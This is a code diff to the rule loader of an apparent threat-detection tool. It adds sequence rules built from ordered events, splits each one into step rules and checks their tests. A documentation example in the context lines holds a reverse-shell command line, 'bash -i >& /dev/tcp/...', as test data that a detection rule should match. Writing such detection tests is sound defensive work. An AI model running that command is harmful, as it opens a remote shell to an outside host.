@@ -41,6 +41,9 @@ A rule::
         match: [{event.action: exec, process.command_line: "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"}]
         no_match: [...]
 
+A condition may be a sequence (query/parser.py, rules/README.md); its tests are lists of
+events, in order: ``match: [[{...}, {...}]]``.
+
 A local layer (``layer: local`` in its manifest) is compiled on top of a base bundle by
 :func:`load_stack`; what it may say is in hub/rules/local_layer.py.
 
@@ -87,10 +90,11 @@ from threatseer.hub.rules.model import (
     SensitiveFile,
     StaticData,
 )
-from threatseer.hub.rules.query.ast import Cmp, Node, Not, Or, conj
+from threatseer.hub.rules.query.ast import Cmp, Node, Not, Or, Sequence, conj
 from threatseer.hub.rules.query.errors import QueryError
-from threatseer.hub.rules.query.parser import WORD_OPS, parse, parse_field
+from threatseer.hub.rules.query.parser import WORD_OPS, parse, parse_field, parse_rule_condition
 from threatseer.hub.rules.ruleset import CompiledRule, IndexedRuleSet
+from threatseer.hub.rules.sequence import SequenceRule, SequenceStep
 from threatseer.hub.rules.sigma import SigmaUnsupported, compile_sigma
 from threatseer.hub.rules.sigma_pipeline import load_user_pipeline, pipeline_for
 from threatseer.hub.rules.yamlfile import BundleError, LineDict, line_of, load_yaml
@@ -197,6 +201,7 @@ class _Loader:
         self.sigma_tunes: dict[str, list[tuple[str, LineDict]]] = {}
         self.sigma_excludes: list[tuple[str, int, str]] = []  # (rel, line, condition text)
         self.ioc_actions: dict[str, str] = {}  # sha256:HASH -> action
+        self.sequences: dict[str, SequenceRule] = {}
 
     def where(self, rel: str, line: int = 0) -> str:
         if rel.startswith(LOCAL_PREFIX):
@@ -496,36 +501,55 @@ class _Loader:
                 return None
         return Cmp(field, op, (value,), nocase)
 
-    def rule(self, rel: str, doc: LineDict) -> CompiledRule | None:
+    def rule(self, rel: str, doc: LineDict) -> list[CompiledRule]:
+        """The compiled rule (a sequence: its steps), none when disabled or bad."""
         line = line_of(doc)
         name = doc.get("rule")
         if not isinstance(name, str) or not name:
             self.error(rel, line, "rule: a name is required")
-            return None
+            return []
         for key in sorted(set(doc) - RULE_KEYS):
             self.error(rel, line, f"unknown key {key!r}", name)
         if not doc.get("enabled", True):
-            return None
+            return []
         try:
             score = int(doc.get("score", 0))
         except (TypeError, ValueError):
             self.error(rel, line, f"score must be an integer, not {doc.get('score')!r}", name)
-            return None
+            return []
         try:
-            condition = parse(str(doc.get("condition") or ""), self.macro, self.lists)
+            condition = parse_rule_condition(str(doc.get("condition") or ""), self.macro,
+                                             self.lists)
             exc = self.exceptions(rel, doc, name)
+            description = str(doc.get("description", "")).strip()
+            tags = tuple(map(str, self.section(rel, doc, "tags", list, name)))
+            output = str(doc.get("output", ""))
+            if isinstance(condition, Sequence):
+                return self.sequence_rule(name, condition, exc, description, score, tags,
+                                          output, self.where(rel, line))
             if exc is not None:
                 condition = conj(condition, exc)
-            return CompiledRule(
-                name=name, engine="dynamic", type="query",
-                description=str(doc.get("description", "")).strip(), score=score,
-                tags=tuple(map(str, self.section(rel, doc, "tags", list, name))),
-                condition=condition,
-                output=str(doc.get("output", "")), source=self.where(rel, line),
-                meta={"id": name}, action=self.action(rel, doc, name))
+            return [CompiledRule(
+                name=name, engine="dynamic", type="query", description=description,
+                score=score, tags=tags, condition=condition, output=output,
+                source=self.where(rel, line), meta={"id": name},
+                action=self.action(rel, doc, name))]
         except QueryError as exc:
             self.error(rel, line, f"condition: {exc}", name)
-            return None
+            return []
+
+    def sequence_rule(self, name: str, seq: Sequence, exc: Node | None, description: str,
+                      score: int, tags: tuple[str, ...], output: str,
+                      source: str) -> list[CompiledRule]:
+        """A sequence's steps as rules of the index; exceptions hold on every step."""
+        rule = SequenceRule(name, seq, description, score, tags, output, source)
+        self.sequences[name] = rule
+        return [SequenceStep(
+            name=f"{name}[{i + 1}]", engine="dynamic", type="sequence-step",
+            description=description, score=0, tags=tags,
+            condition=step.condition if exc is None else conj(step.condition, exc),
+            source=source, meta={"id": name}, sequence=rule, index=i)
+            for i, step in enumerate(seq.steps)]
 
     def sigma_rules(self) -> list[CompiledRule]:
         """Every Sigma rule of the bundle (and of its local layer), untuned."""
@@ -706,8 +730,19 @@ class _Loader:
                 continue
             for key in sorted(set(doc) - {"rule", "match", "no_match"}):
                 self.error(rel, line_of(doc), f"test: unknown key {key!r}", name)
+            sequence = name in self.sequences
             for expect, key in ((True, "match"), (False, "no_match")):
                 for event in doc.get(key) or []:
+                    if sequence:
+                        if not isinstance(event, list) or not event or not all(
+                                isinstance(e, dict) for e in event):
+                            self.error(rel, line_of(doc), f"{key}: a sequence's test is a "
+                                       "list of events (mappings), in order", name)
+                            continue
+                        events = tuple(complete_event(dict(e)) for e in event)
+                        out.append(RuleTest(name, events[-1], expect,
+                                            self.where(rel, line_of(event[0])), events))
+                        continue
                     if not isinstance(event, dict):
                         self.error(rel, line_of(doc), f"{key}: events are mappings", name)
                         continue
@@ -746,6 +781,8 @@ def load_stack(base_files: Files, base_source: str, local_files: Files,
     elif local.base and local.base != manifest.name:
         loader.error(LOCAL_PREFIX + "manifest.yaml", 0, f"is a local layer for base "
                      f"{local.base!r}, not {manifest.name!r}")
+    if loader.errors:  # the wrong kind of bundle on either side: its contents say nothing more
+        raise BundleError(loader.errors)
     static = local_layer.merge_static(loader.static(), loader.static(LOCAL_PREFIX))
     loader.collect()
     loader.collect(LOCAL_PREFIX)
@@ -773,9 +810,7 @@ def _compile(loader: _Loader, manifest: Manifest, static: StaticData, files: Fil
             seen[name] = loader.where(rel, line_of(doc))
             if not doc.get("enabled", True):
                 disabled.add(name)
-        compiled = loader.rule(rel, doc)
-        if compiled is not None:
-            rules.append(compiled)
+        rules.extend(loader.rule(rel, doc))
     for name, (_, where) in sorted(loader.macro_text.items()):
         try:
             loader.macro(name)
@@ -789,6 +824,8 @@ def _compile(loader: _Loader, manifest: Manifest, static: StaticData, files: Fil
         if r.extra.get("sigma_id"):
             known[r.extra["sigma_id"]] = r
     known.update({r.name: r for r in rules})
+    for name, seq in loader.sequences.items():
+        known[name] = next(r for r in rules if getattr(r, "sequence", None) is seq)
     tests = loader.tests(known, disabled)
     exec_rules = loader.exec_rules()
     for er in exec_rules:
